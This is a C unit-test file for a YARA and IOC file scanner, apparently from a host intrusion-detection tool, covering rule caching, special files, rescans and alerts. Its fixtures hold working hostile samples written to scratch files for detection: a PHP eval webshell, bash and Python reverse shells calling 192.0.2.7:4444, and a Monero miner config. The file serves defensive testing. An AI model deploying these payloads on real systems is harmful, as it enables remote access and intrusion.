/*
 * test_scan.c - the scan module (scan/): YARA rules compile from a rule
 * directory and the compiled set is cached and read back without
 * compiling; a broken rule file is reported with its file and line while
 * the others load; our own rules compile without a warning; a tree of
 * made-up samples gives exactly the expected hits, and special files
 * (fifo, socket, symbolic links, a link loop) are skipped without
 * hanging; an oversize file is skipped and counted; files found clean are
 * skipped by a rescan unless touched or modified, and the store's rescan
 * cache is per rule and IOC version; an IOC list's hash hits; files of
 * the same content are scanned once and reported each; a hit becomes an
 * alert with its group; and our rules find nothing in /usr/bin.
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include "ioc/ioc.h"
#include "lib/harness.h"
#include "scan/scan.h"
#include "store/store.h"

static char dir[64];           /* this test's scratch directory */
static unsigned threads;       /* scanning threads (0: the CPUs) */

static int setup(void **state)
{
	(void)state;
	return th_scratch(dir, sizeof(dir), "scan");
}

static int teardown(void **state)
{
	(void)state;
	th_scratch_remove(dir);
	return 0;
}

/* dir/sub made (one level), its path into buf */
static const char *sub(const char *name, char *buf, size_t n)
{
	snprintf(buf, n, "%s/%s", dir, name);
	mkdir(buf, 0755);
	return buf;
}

/* ---- collecting what is reported ---- */

struct got {
	unsigned n;
	struct {
		char rule[128], path[PATH_MAX], id[160];
		enum hn_scan_hit_kind kind;
		unsigned nstrings;
	} h[64];
	unsigned nclean;
	struct hn_scan_cache *cache;   /* clean files added here, if set */
	unsigned nerr;
	char err_path[PATH_MAX];
};

static void on_hit(const struct hn_scan_hit *h, void *arg)
{
	struct got *g = arg;
	unsigned i = g->n++;

	if (i >= 64)
		return;
	g->h[i].kind = h->kind;
	snprintf(g->h[i].rule, sizeof(g->h[i].rule), "%s",
		 h->kind == HN_SCAN_HIT_YARA ? h->rule : h->ioc->value);
	snprintf(g->h[i].path, sizeof(g->h[i].path), "%s", h->path);
	g->h[i].nstrings = h->nstrings;
}

static void on_clean(const char *path, const struct hn_scan_ident *id, void *arg)
{
	struct got *g = arg;

	(void)path;
	g->nclean++;
	if (g->cache)
		assert_int_equal(hn_scan_cache_add(g->cache, id), 0);
}

static void on_error(const char *path, uint32_t pid, int err, const char *what, void *arg)
{
	struct got *g = arg;

	(void)pid;
	(void)err;
	(void)what;
	g->nerr++;
	snprintf(g->err_path, sizeof(g->err_path), "%s", path);
}

/* Was rule (or IOC value) reported on a path ending in tail? */
static bool has_hit(const struct got *g, const char *rule, const char *tail)
{
	for (unsigned i = 0; i < g->n && i < 64; i++) {
		size_t lp = strlen(g->h[i].path), lt = strlen(tail);
		if (!strcmp(g->h[i].rule, rule) && lp >= lt && !strcmp(g->h[i].path + lp - lt, tail))
			return true;
	}
	return false;
}

struct probs {
	unsigned n, warnings;
	char path[PATH_MAX], why[512];
	int line;
};

static void on_problem(const struct hn_scan_rule_problem *p, void *arg)
{
	struct probs *v = arg;

	if (p->warning) {
		v->warnings++;
		fprintf(stderr, "  warning: %s:%d: %s\n", p->path, p->line, p->why);
		return;
	}
	v->n++;
	snprintf(v->path, sizeof(v->path), "%s", p->path);
	snprintf(v->why, sizeof(v->why), "%s", p->why);
	v->line = p->line;
}

static struct hn_scan_rules *our_rules(void)
{
	const char *p = "rules/yara";
	struct hn_scan_rules *r = NULL;
	struct probs pr = { 0 };

	assert_int_equal(hn_scan_rules_load(&p, 1, NULL, on_problem, &pr, &r), 0);
	assert_int_equal(pr.n, 0);
	return r;
}

static void scan(const struct hn_scan_rules *r, const struct hn_ioc_set *ioc,
		 const struct hn_scan_cache *cache, uint64_t max_size, const char *path,
		 struct got *g, struct hn_scan_stats *st)
{
	struct hn_scan_opts o = {
		.rules = r, .ioc = ioc, .cache = cache, .max_size = max_size, .threads = threads,
		.hit = on_hit, .clean = on_clean, .error = on_error, .arg = g,
	};

	memset(st, 0, sizeof(*st));
	hn_scan_files(&o, &path, 1, st);
}

/* Files written now are "racy" (changed within the clock's tick) until
 * the coarse clock moves on: wait for that, so that they can be cached. */
static void settle(void)
{
	th_sleep_ms(60);
}

/* ---- rules ---- */

static void rules_compile_and_the_cache_is_read_back(void **state)
{
	char rd[128], cd[128], yarc[400];
	const char *p = rd;
	struct hn_scan_rules *r = NULL, *r2 = NULL, *r3 = NULL;
	struct hn_scan_rules_stats st;
	struct stat sb;
	char v1[65];

	(void)state;
	sub("rules1", rd, sizeof(rd));
	snprintf(cd, sizeof(cd), "%s/cache", dir);
	assert_non_null(th_write_file(rd, "one.yar",
		"rule one_a { strings: $a = \"alpha-marker\" condition: $a }\n"
		"rule one_b { meta: severity = \"low\" condition: filesize == 3 }\n"));
	assert_int_equal(hn_scan_rules_load(&p, 1, cd, NULL, NULL, &r), 0);
	hn_scan_rules_stats(r, &st);
	assert_int_equal(st.files, 1);
	assert_int_equal(st.rules, 2);
	assert_false(st.from_cache);
	assert_true(st.cached);
	snprintf(v1, sizeof(v1), "%s", hn_scan_rules_version(r));
	assert_int_equal(strlen(v1), 64);
	snprintf(yarc, sizeof(yarc), "%s/%s.yarc", cd, v1);
	assert_int_equal(stat(yarc, &sb), 0);
	assert_int_equal(sb.st_mode & 0777, 0600);
	assert_int_equal(stat(cd, &sb), 0);
	assert_int_equal(sb.st_mode & 0777, 0700);

	/* again: read from the cache, not compiled, the same version */
	assert_int_equal(hn_scan_rules_load(&p, 1, cd, NULL, NULL, &r2), 0);
	hn_scan_rules_stats(r2, &st);
	assert_true(st.from_cache);
	assert_false(st.cached);
	assert_int_equal(st.rules, 2);
	assert_string_equal(hn_scan_rules_version(r2), v1);

	/* a cached set scans as well as a compiled one */
	{
		struct got g = { 0 };
		struct hn_scan_stats sst;
		char td[128];

		sub("t-cache", td, sizeof(td));
		assert_non_null(th_write_file(td, "m.txt", "xx alpha-marker xx\n"));
		assert_non_null(th_write_file(td, "three", "abc"));
		scan(r2, NULL, NULL, 0, td, &g, &sst);
		assert_int_equal(sst.files, 2);
		assert_int_equal(g.n, 2);
		assert_true(has_hit(&g, "one_a", "/m.txt"));
		assert_true(has_hit(&g, "one_b", "/three"));
	}

	/* a changed rule file: another version, compiled again */
	assert_non_null(th_write_file(rd, "one.yar",
		"rule one_a { strings: $a = \"beta-marker\" condition: $a }\n"));
	assert_int_equal(hn_scan_rules_load(&p, 1, cd, NULL, NULL, &r3), 0);
	hn_scan_rules_stats(r3, &st);
	assert_false(st.from_cache);
	assert_string_not_equal(hn_scan_rules_version(r3), v1);

	/* a cache file another user could have written is not trusted */
	hn_scan_rules_free(r2);
	r2 = NULL;
	assert_int_equal(chmod(yarc, 0666), 0);
	assert_non_null(th_write_file(rd, "one.yar",
		"rule one_a { strings: $a = \"alpha-marker\" condition: $a }\n"
		"rule one_b { meta: severity = \"low\" condition: filesize == 3 }\n"));
	{
		struct probs pr = { 0 };
		assert_int_equal(hn_scan_rules_load(&p, 1, cd, on_problem, &pr, &r2), 0);
		hn_scan_rules_stats(r2, &st);
		assert_false(st.from_cache);
		assert_int_equal(pr.warnings, 1);
	}
	hn_scan_rules_free(r);
	hn_scan_rules_free(r2);
	hn_scan_rules_free(r3);
}

static void a_broken_rule_file_is_reported_and_the_rest_loads(void **state)
{
	char rd[128], td[128];
	const char *p = rd;
	struct hn_scan_rules *r = NULL;
	struct hn_scan_rules_stats st;
	struct probs pr = { 0 };
	struct hn_scan_stats sst;
	struct got g = { 0 };

	(void)state;
	sub("rules2", rd, sizeof(rd));
	assert_non_null(th_write_file(rd, "a_good.yar",
		"rule good_one { strings: $a = \"gamma-marker\" condition: $a }\n"));
	assert_non_null(th_write_file(rd, "b_bad.yar",
		"rule bad_one {\n"
		"  strings: $a = \"x\"\n"
		"  condition: $a and and\n"
		"}\n"));
	assert_non_null(th_write_file(rd, "c_good.yara",
		"rule good_two { strings: $a = \"delta-marker\" condition: $a }\n"));
	assert_non_null(th_write_file(rd, "d_include.yar", "include \"a_good.yar\"\n"));
	assert_non_null(th_write_file(rd, "notes.txt", "not a rule file\n"));
	assert_int_equal(hn_scan_rules_load(&p, 1, NULL, on_problem, &pr, &r), 0);
	hn_scan_rules_stats(r, &st);
	assert_int_equal(st.files, 4);
	assert_int_equal(st.files_bad, 2);        /* the syntax error, the include */
	assert_int_equal(st.rules, 2);
	assert_int_equal(pr.n, 2);
	/* the last problem: the include, refused; the first: b_bad.yar:3 */
	assert_non_null(strstr(pr.path, "/d_include.yar"));
	hn_scan_rules_free(r);

	memset(&pr, 0, sizeof(pr));
	{
		char inc[256];
		snprintf(inc, sizeof(inc), "%s/d_include.yar", rd);
		assert_int_equal(unlink(inc), 0);
	}
	assert_int_equal(hn_scan_rules_load(&p, 1, NULL, on_problem, &pr, &r), 0);
	assert_int_equal(pr.n, 1);
	assert_non_null(strstr(pr.path, "/b_bad.yar"));
	assert_int_equal(pr.line, 3);
	assert_true(strlen(pr.why) > 0);

	sub("t-broken", td, sizeof(td));
	assert_non_null(th_write_file(td, "g.txt", "gamma-marker\n"));
	assert_non_null(th_write_file(td, "d.txt", "delta-marker\n"));
	scan(r, NULL, NULL, 0, td, &g, &sst);
	assert_int_equal(g.n, 2);
	assert_true(has_hit(&g, "good_one", "/g.txt"));
	assert_true(has_hit(&g, "good_two", "/d.txt"));
	hn_scan_rules_free(r);

	/* nothing at all that compiles, and nothing found */
	{
		char e[128];
		const char *pe = e;
		sub("rules-none", e, sizeof(e));
		assert_int_equal(hn_scan_rules_load(&pe, 1, NULL, NULL, NULL, &r), -ENOENT);
		assert_non_null(th_write_file(e, "x.yar", "rule {"));
		assert_int_equal(hn_scan_rules_load(&pe, 1, NULL, NULL, NULL, &r), -EINVAL);
	}
}

static void our_rules_compile_without_warnings(void **state)
{
	const char *p = "rules/yara";
	struct hn_scan_rules *r = NULL;
	struct hn_scan_rules_stats st;
	struct probs pr = { 0 };

	(void)state;
	assert_int_equal(hn_scan_rules_load(&p, 1, NULL, on_problem, &pr, &r), 0);
	hn_scan_rules_stats(r, &st);
	assert_int_equal(pr.n, 0);
	assert_int_equal(pr.warnings, 0);
	assert_int_equal(st.files_bad, 0);
	assert_true(st.files >= 4);
	assert_true(st.rules >= 15);
	hn_scan_rules_free(r);
}

/* ---- files ---- */

static const char webshell[] = "<?php\n@eval($_POST['z']);\n?>\n";
static const char revshell[] = "#!/bin/sh\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1\n";
static const char pyshell[] =
	"import socket,subprocess,os\n"
	"s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
	"s.connect((\"192.0.2.7\",4444))\n"
	"os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2)\n"
	"p=subprocess.call([\"/bin/sh\",\"-i\"])\n";
static const char miner[] =
	"{\n \"autosave\": true,\n \"donate-level\": 1,\n \"pools\": [\n"
	"  {\"url\": \"stratum+tcp://pool.example.org:3333\", \"user\": \"w\", \"coin\": \"monero\"}\n"
	" ]\n}\n";
static const char benign[] =
	"#!/bin/sh\n# backup the web root\ntar czf /var/backups/www.tgz /var/www\n"
	"echo \"eval is a word; $_POST is a PHP array\"\n";

static void samples(const char *td)
{
	char d2[256];

	assert_non_null(th_write_file(td, "shell.php", webshell));
	assert_non_null(th_write_file(td, "rev.sh", revshell));
	snprintf(d2, sizeof(d2), "%s/deeper", td);
	assert_int_equal(mkdir(d2, 0755), 0);
	assert_non_null(th_write_file(d2, "p.py", pyshell));
	assert_non_null(th_write_file(td, "config.json", miner));
	assert_non_null(th_write_file(td, "backup.sh", benign));
	assert_non_null(th_write_file(d2, "readme.txt", "nothing to see here\n"));
}

static void a_tree_of_samples_gives_exactly_the_expected_hits(void **state)
{
	struct hn_scan_rules *r = our_rules();
	struct hn_scan_stats st;
	struct got g = { 0 };
	char td[128];

	(void)state;
	sub("t-samples", td, sizeof(td));
	samples(td);
	scan(r, NULL, NULL, 0, td, &g, &st);
	assert_int_equal(st.files, 6);
	assert_int_equal(st.errors, 0);
	assert_int_equal(g.n, 4);
	assert_int_equal(st.hits, 4);
	assert_int_equal(st.files_hit, 4);
	assert_true(has_hit(&g, "php_eval_request_input", "/shell.php"));
	assert_true(has_hit(&g, "revshell_bash_dev_tcp", "/rev.sh"));
	assert_true(has_hit(&g, "revshell_python_socket", "/deeper/p.py"));
	assert_true(has_hit(&g, "miner_config_stratum_pools", "/config.json"));
	for (unsigned i = 0; i < g.n; i++)
		assert_true(g.h[i].nstrings >= 1);
	/* a file given by name, not a directory */
	{
		struct got g2 = { 0 };
		char f[256];
		snprintf(f, sizeof(f), "%s/rev.sh", td);
		scan(r, NULL, NULL, 0, f, &g2, &st);
		assert_int_equal(st.files, 1);
		assert_int_equal(g2.n, 1);
		assert_true(has_hit(&g2, "revshell_bash_dev_tcp", "/rev.sh"));
	}
	/* a path that does not exist: an error naming it */
	{
		struct got g3 = { 0 };
		char f[256];
		snprintf(f, sizeof(f), "%s/no-such-file", td);
		scan(r, NULL, NULL, 0, f, &g3, &st);
		assert_int_equal(st.errors, 1);
		assert_string_equal(g3.err_path, f);
	}
	hn_scan_rules_free(r);
}

static void special_files_are_skipped_without_hanging(void **state)
{
	struct hn_scan_rules *r = our_rules();
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	struct hn_scan_stats st;
	struct got g = { 0 };
	char td[128], p[256];
	int s;

	(void)state;
	sub("t-special", td, sizeof(td));
	assert_non_null(th_write_file(td, "rev.sh", revshell));
	snprintf(p, sizeof(p), "%s/fifo", td);
	assert_int_equal(mkfifo(p, 0600), 0);
	assert_true(strlen(td) + 6 < sizeof(sa.sun_path));
	memcpy(sa.sun_path, td, strlen(td));
	memcpy(sa.sun_path + strlen(td), "/sock", 6);
	s = socket(AF_UNIX, SOCK_STREAM, 0);
	assert_true(s >= 0);
	assert_int_equal(bind(s, (struct sockaddr *)&sa, sizeof(sa)), 0);
	snprintf(p, sizeof(p), "%s/loop", td);
	assert_int_equal(symlink(".", p), 0);              /* a directory loop */
	snprintf(p, sizeof(p), "%s/to-rev", td);
	assert_int_equal(symlink("rev.sh", p), 0);         /* a link to a file */
	snprintf(p, sizeof(p), "%s/to-etc", td);
	assert_int_equal(symlink("/etc", p), 0);           /* a link out */
	scan(r, NULL, NULL, 0, td, &g, &st);
	assert_int_equal(st.files, 1);
	assert_int_equal(st.special, 5);
	assert_int_equal(st.errors, 0);
	assert_int_equal(g.n, 1);
	assert_true(has_hit(&g, "revshell_bash_dev_tcp", "/rev.sh"));
	/* a fifo named directly: refused, not opened (it would block) */
	memset(&g, 0, sizeof(g));
	snprintf(p, sizeof(p), "%s/fifo", td);
	scan(r, NULL, NULL, 0, p, &g, &st);
	assert_int_equal(st.files, 0);
	assert_int_equal(st.errors, 1);
	close(s);
	hn_scan_rules_free(r);
}

static void an_oversize_file_is_skipped_and_counted(void **state)
{
	struct hn_scan_rules *r = our_rules();
	struct hn_scan_stats st;
	struct got g = { 0 };
	char td[128], big[3000];

	(void)state;
	sub("t-big", td, sizeof(td));
	memset(big, 'a', sizeof(big) - 1);
	big[sizeof(big) - 1] = '\0';
	memcpy(big, revshell, strlen(revshell));      /* would hit if scanned */
	assert_non_null(th_write_file(td, "big.sh", big));
	assert_non_null(th_write_file(td, "small.txt", "small\n"));
	scan(r, NULL, NULL, 1000, td, &g, &st);
	assert_int_equal(st.too_big, 1);
	assert_int_equal(st.files, 1);
	assert_int_equal(g.n, 0);
	scan(r, NULL, NULL, 0, td, &g, &st);
	assert_int_equal(st.too_big, 0);
	assert_int_equal(st.files, 2);
	assert_int_equal(g.n, 1);
	hn_scan_rules_free(r);
}

static void a_rescan_skips_unchanged_files_only(void **state)
{
	struct hn_scan_rules *r = our_rules();
	struct hn_scan_cache *c = hn_scan_cache_new();
	struct hn_scan_stats st;
	struct got g = { 0 };
	char td[128], p[256];
	struct timespec ts[2] = { { 0, UTIME_OMIT }, { 1000000000, 0 } };

	(void)state;
	assert_non_null(c);
	sub("t-rescan", td, sizeof(td));
	samples(td);
	settle();
	g.cache = c;
	scan(r, NULL, NULL, 0, td, &g, &st);
	assert_int_equal(st.files, 6);
	assert_int_equal(st.racy, 0);
	assert_int_equal(g.nclean, 2);                /* backup.sh, readme.txt */
	assert_int_equal(hn_scan_cache_count(c), 2);

	/* unchanged: the clean files skipped, the hits scanned again */
	memset(&g, 0, sizeof(g));
	scan(r, NULL, c, 0, td, &g, &st);
	assert_int_equal(st.unchanged, 2);
	assert_int_equal(st.files, 4);
	assert_int_equal(g.n, 4);

	/* one touched (mtime), one modified (same size: ctime tells) */
	snprintf(p, sizeof(p), "%s/backup.sh", td);
	assert_int_equal(utimensat(AT_FDCWD, p, ts, 0), 0);
	snprintf(p, sizeof(p), "%s/deeper/readme.txt", td);
	{
		int fd = open(p, O_WRONLY);
		assert_true(fd >= 0);
		assert_int_equal(pwrite(fd, "N", 1, 0), 1);
		close(fd);
	}
	memset(&g, 0, sizeof(g));
	scan(r, NULL, c, 0, td, &g, &st);
	assert_int_equal(st.unchanged, 0);
	assert_int_equal(st.files, 6);
	hn_scan_cache_free(c);
	hn_scan_rules_free(r);
}

struct rows {
	unsigned n;
};

static int count_row(const struct hn_scan_clean *c, void *arg)
{
	struct rows *r = arg;

	assert_true(c->ino != 0);
	r->n++;
	return 0;
}

static void the_stores_cache_is_per_rule_and_ioc_version(void **state)
{
	struct hn_store_opts o = { 0 };
	struct hn_store *s = NULL;
	struct hn_scan_clean v[3] = {
		{ 2049, 11, 100, 5, 6 }, { 2049, 12, 200, 7, 8 }, { 2049, 13, 300, 9, 10 },
	};
	struct rows n = { 0 };
	char db[128];

	(void)state;
	snprintf(db, sizeof(db), "%s/store.db", dir);
	o.path = db;
	o.queue_max = 16;
	assert_int_equal(hn_store_open(&o, &s), 0);
	assert_int_equal(hn_store_scan_clean_put(s, "rv1", "", v, 3, 1000), 0);
	assert_int_equal(hn_store_scan_clean_load(s, "rv1", "", count_row, &n), 0);
	assert_int_equal(n.n, 3);
	n.n = 0;
	assert_int_equal(hn_store_scan_clean_load(s, "rv2", "", count_row, &n), 0);
	assert_int_equal(n.n, 0);                     /* another rule version */
	assert_int_equal(hn_store_scan_clean_load(s, "rv1", "iv", count_row, &n), 0);
	assert_int_equal(n.n, 0);                     /* another IOC version */
	/* a file found not clean is forgotten; a rescan with v2 replaces */
	assert_int_equal(hn_store_scan_clean_forget(s, &v[0], 1), 0);
	v[1].size = 201;
	assert_int_equal(hn_store_scan_clean_put(s, "rv2", "", &v[1], 1, 2000), 0);
	assert_int_equal(hn_store_scan_clean_load(s, "rv1", "", count_row, &n), 0);
	assert_int_equal(n.n, 1);
	n.n = 0;
	assert_int_equal(hn_store_scan_clean_load(s, "rv2", "", count_row, &n), 0);
	assert_int_equal(n.n, 1);
	/* old rows pruned */
	assert_int_equal(hn_store_scan_clean_prune(s, 1500), 1);
	n.n = 0;
	assert_int_equal(hn_store_scan_clean_load(s, "rv1", "", count_row, &n), 0);
	assert_int_equal(n.n, 0);
	hn_store_close(s);
}

static void an_ioc_lists_hash_hits(void **state)
{
	struct hn_ioc_set *set = hn_ioc_set_new(), *none = hn_ioc_set_new();
	struct hn_scan_rules *r = our_rules();
	char td[128], list[400], v1[65], v0[65], hex[65];
	struct hn_scan_stats st;
	struct got g = { 0 };
	FILE *f;

	(void)state;
	sub("t-ioc", td, sizeof(td));
	assert_non_null(th_write_file(td, "dropper.bin", "evil!\n"));
	assert_non_null(th_write_file(td, "fine.txt", "fine\n"));
	/* the file's digest, as sha256sum says */
	{
		char cmd[300];
		snprintf(cmd, sizeof(cmd), "sha256sum %s/dropper.bin", td);
		f = popen(cmd, "r");
		assert_non_null(f);
		assert_int_equal(fscanf(f, "%64s", hex), 1);
		pclose(f);
	}
	snprintf(list, sizeof(list), "%s/lists", dir);
	mkdir(list, 0755);
	{
		char text[300];
		snprintf(text, sizeof(text), "type,value,description,level\nsha256,%s,test dropper,critical\n",
			 hex);
		assert_non_null(th_write_file(list, "badfiles.csv", text));
	}
	snprintf(list, sizeof(list), "%s/lists/badfiles.csv", dir);
	assert_int_equal(hn_ioc_load(set, list, NULL, NULL), 1);
	hn_scan_ioc_version(set, v1);
	hn_scan_ioc_version(none, v0);
	assert_int_equal(strlen(v1), 64);
	assert_string_equal(v0, "");

	/* IOC only, then with the rules too: one hit, the indicator's */
	scan(NULL, set, NULL, 0, td, &g, &st);
	assert_int_equal(st.files, 2);
	assert_int_equal(g.n, 1);
	assert_int_equal(g.h[0].kind, HN_SCAN_HIT_IOC);
	assert_true(has_hit(&g, hex, "/dropper.bin"));
	memset(&g, 0, sizeof(g));
	scan(r, set, NULL, 0, td, &g, &st);
	assert_int_equal(g.n, 1);
	assert_true(has_hit(&g, hex, "/dropper.bin"));
	hn_scan_rules_free(r);
	hn_ioc_set_free(set);
	hn_ioc_set_free(none);
}

static void the_same_content_is_scanned_once_and_reported_each_time(void **state)
{
	struct hn_scan_rules *r = our_rules();
	struct hn_scan_stats st;
	struct got g = { 0 };
	char td[128], name[32], *text;
	size_t n = 40000, k;

	(void)state;
	sub("t-same", td, sizeof(td));
	text = malloc(n + 1);
	assert_non_null(text);
	k = (size_t)snprintf(text, n, "%s", webshell);
	memset(text + k, ' ', n - k);
	text[n - 1] = '\n';
	text[n] = '\0';
	for (int i = 0; i < 5; i++) {
		snprintf(name, sizeof(name), "copy%d.php", i);
		assert_non_null(th_write_file(td, name, text));
	}
	text[n - 2] = '\0';  /* another size, another content: clean */
	memcpy(text, "<!-- ", 5);
	assert_non_null(th_write_file(td, "other.php", text));
	free(text);
	threads = 1;         /* in order: the reuse counted exactly */
	scan(r, NULL, NULL, 0, td, &g, &st);
	threads = 0;
	assert_int_equal(st.files, 6);
	assert_int_equal(g.n, 5);
	for (int i = 0; i < 5; i++) {
		snprintf(name, sizeof(name), "/copy%d.php", i);
		assert_true(has_hit(&g, "php_eval_request_input", name));
	}
	/* the first of a size is not hashed, the second is scanned and its
	 * result kept, the other three reuse it */
	assert_int_equal(st.same_content, 3);
	for (unsigned i = 0; i < g.n; i++)
		assert_int_equal(g.h[i].nstrings, 2);
	hn_scan_rules_free(r);
}

static void a_hit_becomes_an_alert_with_its_group(void **state)
{
	struct hn_scan_ident id = { 2049, 77, 31, 1700000000000000000ULL, 1700000000000000000ULL };
	struct hn_scan_string s[1] = { { "$run", 7, 12 } };
	struct hn_scan_hit h = {
		.kind = HN_SCAN_HIT_YARA, .path = "/var/www/x.php", .file = &id,
		.sha256 = "", .sha1 = "", .md5 = "",
		.ns = "webshells", .rule = "php_eval_request_input",
		.description = "PHP webshell", .author = "hinomi", .level = "critical",
		.tags = "yara,attack.persistence,attack.t1505.003", .rule_path = "/r/webshells.yar",
		.strings = s, .nstrings = 1, .strings_total = 3,
	};
	struct hn_scan_alert a;

	(void)state;
	assert_int_equal(hn_scan_alert_make(&h, 42, &a), 0);
	assert_string_equal(a.a.rule_id, "yara:webshells:php_eval_request_input");
	assert_string_equal(a.a.group_key, "scan:yara:webshells:php_eval_request_input|/var/www/x.php");
	assert_string_equal(a.a.rule_title, "PHP webshell");
	assert_string_equal(a.a.rule_level, "critical");
	assert_string_equal(a.a.rule_tags, "yara,attack.persistence,attack.t1505.003");
	assert_string_equal(a.a.executable, "/var/www/x.php");
	assert_int_equal(a.a.time, 42);
	assert_non_null(strstr(a.a.event_json, "\"file\":{\"path\":\"/var/www/x.php\""));
	assert_non_null(strstr(a.a.event_json, "\"size\":31"));
	assert_non_null(strstr(a.a.event_json,
		"\"strings\":[{\"id\":\"$run\",\"offset\":7,\"length\":12}],\"strings_matched\":3"));
	hn_scan_alert_release(&a);

	/* a process: grouped by pid and start time */
	h.path = "/usr/bin/python3.11";
	h.file = NULL;
	h.pid = 4242;
	h.start_ticks = 99;
	h.comm = "python3";
	assert_int_equal(hn_scan_alert_make(&h, 42, &a), 0);
	assert_string_equal(a.a.group_key, "scan:yara:webshells:php_eval_request_input|pid:4242:99");
	assert_int_equal(a.a.pid, 4242);
	assert_non_null(strstr(a.a.event_json, "\"process\":{\"pid\":4242"));
	hn_scan_alert_release(&a);
}

static void the_clean_set_finds_exact_identities(void **state)
{
	struct hn_scan_cache *c = hn_scan_cache_new();
	struct hn_scan_ident id = { 2049, 1, 10, 20, 30 };

	(void)state;
	assert_non_null(c);
	for (uint64_t i = 1; i <= 5000; i++) {
		id.ino = i;
		id.size = i * 3;
		assert_int_equal(hn_scan_cache_add(c, &id), 0);
	}
	assert_int_equal(hn_scan_cache_count(c), 5000);
	for (uint64_t i = 1; i <= 5000; i++) {
		id.ino = i;
		id.size = i * 3;
		assert_true(hn_scan_cache_has(c, &id));
		id.ctime_ns++;
		assert_false(hn_scan_cache_has(c, &id));
		id.ctime_ns--;
	}
	id.ino = 7;
	id.size = 999;                 /* replaced */
	assert_int_equal(hn_scan_cache_add(c, &id), 0);
	assert_int_equal(hn_scan_cache_count(c), 5000);
	assert_true(hn_scan_cache_has(c, &id));
	id.size = 21;
	assert_false(hn_scan_cache_has(c, &id));
	id.dev = 2050;
	id.ino = 5001;
	assert_false(hn_scan_cache_has(c, &id));
	hn_scan_cache_free(c);
}

static void our_rules_find_nothing_in_usr_bin(void **state)
{
	struct hn_scan_rules *r = our_rules();
	struct hn_scan_stats st;
	struct got g = { 0 };
	time_t t0 = time(NULL);

	(void)state;
	scan(r, NULL, NULL, 0, "/usr/bin", &g, &st);
	fprintf(stderr, "  /usr/bin: %llu files, %.1f MB, %.1f s\n",
		(unsigned long long)st.files, (double)st.bytes / 1e6, st.seconds);
	for (unsigned i = 0; i < g.n && i < 64; i++)
		fprintf(stderr, "  false positive: %s %s\n", g.h[i].rule, g.h[i].path);
	assert_true(st.files > 100);
	assert_int_equal(g.n, 0);
	assert_true(time(NULL) - t0 < 60);
	hn_scan_rules_free(r);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(rules_compile_and_the_cache_is_read_back),
		cmocka_unit_test(a_broken_rule_file_is_reported_and_the_rest_loads),
		cmocka_unit_test(our_rules_compile_without_warnings),
		cmocka_unit_test(a_tree_of_samples_gives_exactly_the_expected_hits),
		cmocka_unit_test(special_files_are_skipped_without_hanging),
		cmocka_unit_test(an_oversize_file_is_skipped_and_counted),
		cmocka_unit_test(a_rescan_skips_unchanged_files_only),
		cmocka_unit_test(the_stores_cache_is_per_rule_and_ioc_version),
		cmocka_unit_test(an_ioc_lists_hash_hits),
		cmocka_unit_test(the_same_content_is_scanned_once_and_reported_each_time),
		cmocka_unit_test(a_hit_becomes_an_alert_with_its_group),
		cmocka_unit_test(the_clean_set_finds_exact_identities),
		cmocka_unit_test(our_rules_find_nothing_in_usr_bin),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
